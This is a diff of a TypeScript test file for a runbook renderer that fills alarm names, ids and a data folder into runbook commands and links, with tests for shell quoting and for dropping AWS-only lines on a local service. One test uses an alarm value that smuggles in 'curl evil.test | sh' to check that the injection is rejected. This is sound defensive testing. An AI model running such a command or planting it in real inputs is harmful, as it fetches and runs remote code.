@@ -30,6 +30,12 @@ describe('a section of the runbook', () => {
     expect(texts('The NAME of /partner-lines/prod/')).toEqual(['The NAME of /partner-lines/prod/']);
   });
 
+  it('has the name of the function whose alarm it is, also on a stage whose name has a hyphen', () => {
+    const alarm = 'partner-lines-kr-prod-many-faults-relay';
+    const found = sectionIn('## One\n\n`/partner-lines/prod/NAME`', 'one', { ...IDS, alarm });
+    expect(found?.blocks.map(textOf)).toEqual(['/partner-lines/staging/relay']);
+  });
+
   it('has the name of a function in its commands only if a function can have this name', () => {
     const alarm = 'partner-lines-staging-errors-relay; curl evil.test | sh';
     const found = sectionIn('## One\n\n`mapping enable --name NAME`', 'one', { ...IDS, alarm });
@@ -50,13 +56,37 @@ describe('a section of the runbook', () => {
     expect(links(`\`\`\`sh\n${run} doctor\n${run} delivery show --call C\naws logs tail x\n\`\`\``)).toEqual([]);
   });
 
-  it('has the log of the own data folder in its local lines, and no local lines for a stack', () => {
+  const onLocal = (markdown: string) =>
+    sectionIn(`## One\n\n${markdown}`, 'one', { ...IDS, dataDir: '/tmp/my $& data' })?.blocks.map(textOf);
+
+  it('has for a stack the commands of AWS, and for a local service those that replace them', () => {
     const lines = '```sh\naws logs tail x\n# local: grep ERROR .local/service.log | tail\n```';
     expect(texts(lines)).toEqual(['aws logs tail x\n']);
-    const local = sectionIn(`## One\n\n${lines}`, 'one', { ...IDS, dataDir: '/tmp/my $& data' });
-    expect(local?.blocks.map(textOf)).toEqual([
-      "aws logs tail x\n# local: grep ERROR '/tmp/my $& data'/service.log | tail",
+    expect(onLocal(lines)).toEqual(["grep ERROR '/tmp/my $& data'/service.log | tail"]);
+  });
+
+  it('leaves out for a local service what only AWS has: commands, steps and rows', () => {
+    const command = '```sh\noperator doctor\nX=$(aws a \\\n  --b)\naws c\n```';
+    expect(onLocal(command)).toEqual([`${IDS.operator} doctor\n`]);
+    expect(onLocal('```sh\naws a\n```')).toEqual([]);
+    const step = '1. First:\n   ```sh\n   aws a\n   ```\n2. Then `operator doctor`';
+    expect(onLocal(step)).toEqual([`Then ${IDS.operator} doctor`]);
+    const rows = '| a |\n|---|\n| `aws a` |\n| `operator doctor` |';
+    expect(onLocal(rows)).toEqual([`a${IDS.operator} doctor`]);
+    expect(texts(step)?.join()).toContain('aws a');
+    expect(texts(rows)?.join()).toContain('aws a');
+  });
+
+  it('has the ids that the address names in its commands and in its links', () => {
+    const ids = { ...IDS, alarm: undefined, partner: 'pt_1', line: 'ln_1', call: 'a b' };
+    const code = '`partner show --partner P`, `line show --tenant T`, `call show --call C` and [more](#two)';
+    const found = sectionIn(`## One\n\n${code}`, 'one', ids);
+    expect(found?.blocks.map(textOf)).toEqual([
+      "partner show --partner pt_1, line show --tenant ln_1, call show --call 'a b' and more",
     ]);
+    const odd = sectionIn(`## One\n\n${code}`, 'one', { ...ids, partner: 'x --call C' });
+    expect(odd?.blocks.map(textOf)[0]).toMatch(/^partner show --partner 'x --call C', /);
+    expect(JSON.stringify(found)).toContain('"/runbook/two?partner=pt_1&line=ln_1&call=a+b"');
   });
 
   it('is made of elements, so markup in it stays text', () => {
@@ -77,8 +107,9 @@ describe('a section of the runbook', () => {
   });
 
   it('leads to another heading of the runbook, but not to another document', () => {
+    const href = `/runbook/two?alarm=${IDS.alarm}`;
     expect(section('[There](#two)')?.blocks).toEqual([
-      { tag: 'p', children: [{ tag: 'a', children: ['There'], href: '/runbook/two' }] },
+      { tag: 'p', children: [{ tag: 'a', children: ['There'], href }] },
     ]);
     expect(section('[There](deploy.md)')?.blocks.flatMap(elementsIn)).toEqual(['p', 'span']);
   });
